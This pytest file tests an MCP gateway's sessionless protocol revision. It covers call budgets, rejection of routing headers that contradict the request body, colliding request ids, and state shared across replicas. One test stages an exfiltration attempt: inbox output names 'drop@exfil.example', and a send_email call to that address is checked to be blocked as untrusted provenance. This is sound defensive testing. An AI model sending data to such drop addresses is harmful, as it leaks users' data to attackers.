"""The 2026-07-28 revision through `visor serve`: no session, every request self-describing.

The real SDK Streamable HTTP client (`discover()`, no initialize) through the gateway in front of
the stdio SDK test server; the header-against-body rule with raw HTTP; two clients whose ids
collide in one conversation; budgets and provenance holding across requests of a conversation;
and, with `--state`, a conversation continued by another replica."""

from __future__ import annotations

import asyncio
import json
import shutil
import sys
from pathlib import Path
from typing import Any

import mcp.types as types
import pytest
from mcp import ClientSession
from mcp.client.streamable_http import streamable_http_client

from tests.serve.serve_proc import MAIL_POLICY, MAILBOX, http, post, serve, stdio_upstream
from tests.state.redis_server import MISSING, RedisServer

MODERN = "2026-07-28"
META = {
    "io.modelcontextprotocol/protocolVersion": MODERN,
    "io.modelcontextprotocol/clientCapabilities": {},
    "io.modelcontextprotocol/clientInfo": {"name": "raw", "version": "0"},
}
SDK_POLICY = """\
version: "1.0"
default_action: deny
servers:
  - name: "sdk"
    allowed: true
    tools:
      - name: "add"
        allowed: true
        max_calls: 2
      - name: "slow_count"
        allowed: true
      - name: "fail"
        allowed: false
"""


def _text(result: types.CallToolResult) -> str:
    block = result.content[0]
    assert isinstance(block, types.TextContent)
    return block.text


def test_the_sdk_client_on_2026_07_28_through_serve(tmp_path: Path) -> None:
    with serve(tmp_path, stdio_upstream(tmp_path / "pids"), "--server-name", "sdk", policy=SDK_POLICY) as gw:

        async def main() -> dict[str, Any]:
            progress: list[float] = []

            async def on_progress(p: float, total: float | None, message: str | None) -> None:
                progress.append(p)

            async with streamable_http_client(gw.url) as (r, w), ClientSession(r, w) as s:
                found = await s.discover()
                tools = sorted(t.name for t in (await s.list_tools()).tools)
                first = await s.call_tool("add", {"a": 2, "b": 3})
                second = await s.call_tool("add", {"a": 1, "b": 1})
                third = await s.call_tool("add", {"a": 1, "b": 1})
                counted = await s.call_tool("slow_count", {"n": 3}, progress_callback=on_progress)
                denied = await s.call_tool("fail", {"reason": "x"})
                return {
                    "server": found.meta["io.modelcontextprotocol/serverInfo"]["name"],  # type: ignore[index]
                    "tools": tools,
                    "calls": [_text(first), _text(second), (third.is_error, _text(third))],
                    "counted": _text(counted),
                    "progress": progress,
                    "denied": denied.is_error,
                }

        out = asyncio.run(asyncio.wait_for(main(), 90))
        assert out["server"] == "visor-test-server"
        assert "add" in out["tools"]
        assert out["calls"][:2] == ["5", "2"]
        # The budget of the conversation holds across its requests (there is no session).
        assert out["calls"][2][0] is True and "budget" in out["calls"][2][1].lower()
        assert out["counted"] == "counted 3" and out["progress"] == [1, 2, 3]
        assert out["denied"] is True
        records = gw.records()
        conversations = {r.get("mcp_session") for r in records if r["event"] in ("allow", "deny")}
        assert conversations == {"conversation-anonymous"}
        # Only requests travel without a session: no GET stream, no DELETE on this revision.
        assert (
            http(
                "GET", gw.url, headers={"Accept": "text/event-stream", "MCP-Protocol-Version": MODERN}
            ).status
            == 405
        )
        assert http("DELETE", gw.url, headers={"MCP-Protocol-Version": MODERN}).status == 405


def _modern(
    rpc_id: Any, method: str, params: dict[str, Any] | None = None, **headers: str
) -> tuple[Any, dict[str, str]]:
    body = {
        "jsonrpc": "2.0",
        "id": rpc_id,
        "method": method,
        "params": {**(params or {}), "_meta": dict(META)},
    }
    base = {"MCP-Protocol-Version": MODERN, "Mcp-Method": method}
    if method == "tools/call":
        base["Mcp-Name"] = body["params"]["name"]
    return body, {**base, **headers}


def _answer(reply: Any) -> dict[str, Any]:
    assert reply.status == 200, (reply.status, reply.body[:300])
    body = reply.body
    if reply.headers.get("content-type", "").startswith("text/event-stream"):
        body = [ln for ln in body.splitlines() if ln.startswith(b"data: ")][-1][6:]
    return json.loads(body)


def test_headers_that_disagree_with_the_body_are_refused_before_anything_runs(tmp_path: Path) -> None:
    log = tmp_path / "mailbox.jsonl"
    with serve(
        tmp_path, [sys.executable, str(MAILBOX)], "--server-name", "mail", policy=MAIL_POLICY,
        env={"MAILBOX_LOG": str(log)},
    ) as gw:  # fmt: skip
        cases = [
            ({"Mcp-Name": "read_inbox"}, -32020),  # the router was told another tool
            ({"Mcp-Method": "tools/list"}, -32020),
            ({"MCP-Protocol-Version": "2026-07-29"}, -32020),
            ({"Mcp-Name": "=?base64?cGluZw?="}, -32020),  # not canonical base64: no lenient reading
        ]
        for extra, code in cases:
            body, headers = _modern(5, "tools/call", {"name": "ping", "arguments": {}}, **extra)
            reply = post(gw.url, body, **headers)
            assert reply.status == 400, (extra, reply)
            assert reply.json()["error"]["code"] == code and reply.json()["id"] == 5
        # The base64 form of the same name is the same name.
        body, headers = _modern(
            6, "tools/call", {"name": "ping", "arguments": {}}, **{"Mcp-Name": "=?base64?cGluZw==?="}
        )
        assert "pong" in _answer(post(gw.url, body, **headers))["result"]["content"][0]["text"]
        # A body without the revision's envelope is refused too.
        bare = {"jsonrpc": "2.0", "id": 7, "method": "tools/list", "params": {}}
        reply = post(gw.url, bare, **{"MCP-Protocol-Version": MODERN, "Mcp-Method": "tools/list"})
        assert reply.status == 400 and reply.json()["error"]["code"] == -32602
    assert [r["tool"] for r in map(json.loads, log.read_text().splitlines())] == ["ping"]


def test_clients_sharing_a_conversation_keep_their_own_ids_and_its_provenance(tmp_path: Path) -> None:
    log = tmp_path / "mailbox.jsonl"
    with serve(
        tmp_path, [sys.executable, str(MAILBOX)], "--server-name", "mail", policy=MAIL_POLICY,
        env={"MAILBOX_LOG": str(log)},
    ) as gw:  # fmt: skip

        async def both() -> list[Any]:
            # Two clients, the same id 1, at once: each gets its own answer under its own id.
            loop = asyncio.get_running_loop()
            calls = [_modern(1, "tools/call", {"name": n, "arguments": {}}) for n in ("ping", "read_inbox")]
            return await asyncio.gather(
                *(loop.run_in_executor(None, lambda c=c: post(gw.url, c[0], **c[1])) for c in calls)
            )

        ping, inbox = (_answer(r) for r in asyncio.run(both()))
        assert ping["id"] == 1 and "pong" in ping["result"]["content"][0]["text"]
        assert inbox["id"] == 1 and "drop@exfil.example" in inbox["result"]["content"][0]["text"]
        # What one request showed is untrusted output for the next request of the conversation.
        body, headers = _modern(
            2, "tools/call", {"name": "send_email", "arguments": {"to": "drop@exfil.example", "body": "x"}}
        )
        sent = _answer(post(gw.url, body, **headers))
        assert sent["id"] == 2 and sent["result"]["isError"] is True
        assert "provenance.untrusted_output" in sent["result"]["content"][0]["text"]
        # Another credential is another conversation, with its own (empty) provenance index; it
        # is asked about the unseen address rather than denied for provenance.
        body, headers = _modern(
            2,
            "tools/call",
            {"name": "send_email", "arguments": {"to": "drop@exfil.example", "body": "x"}},
            Authorization="Bearer other",
        )
        other = _answer(post(gw.url, body, **headers))
        assert "provenance.untrusted_output" not in other["result"]["content"][0]["text"]
    assert sorted(r["tool"] for r in map(json.loads, log.read_text().splitlines())) == ["ping", "read_inbox"]
    sessions = {r.get("mcp_session") for r in gw.records() if r["event"] in ("allow", "deny")}
    assert len(sessions) == 2 and "conversation-anonymous" in sessions


@pytest.mark.skipif(shutil.which("redis-server") is None, reason=MISSING)
def test_a_conversation_continues_on_another_replica_with_state(tmp_path: Path) -> None:
    log = tmp_path / "mailbox.jsonl"
    (tmp_path / "redis").mkdir()
    store = RedisServer(tmp_path / "redis")
    store.start()
    try:
        replicas = []
        for name in ("a", "b"):
            (tmp_path / name).mkdir()
            options = ("--server-name", "mail", "--state", store.url)
            upstream = [sys.executable, str(MAILBOX)]
            env = {"MAILBOX_LOG": str(log)}
            replicas.append(serve(tmp_path / name, upstream, *options, policy=MAIL_POLICY, env=env))
        with replicas[0] as a, replicas[1] as b:
            for i, url in enumerate([a.url, a.url, b.url, b.url]):
                body, headers = _modern(i, "tools/call", {"name": "ping", "arguments": {}})
                answer = _answer(post(url, body, **headers))
                assert answer["result"].get("isError", False) is (i == 3), (i, answer)
    finally:
        store.kill()
    assert [r["tool"] for r in map(json.loads, log.read_text().splitlines())] == ["ping"] * 3
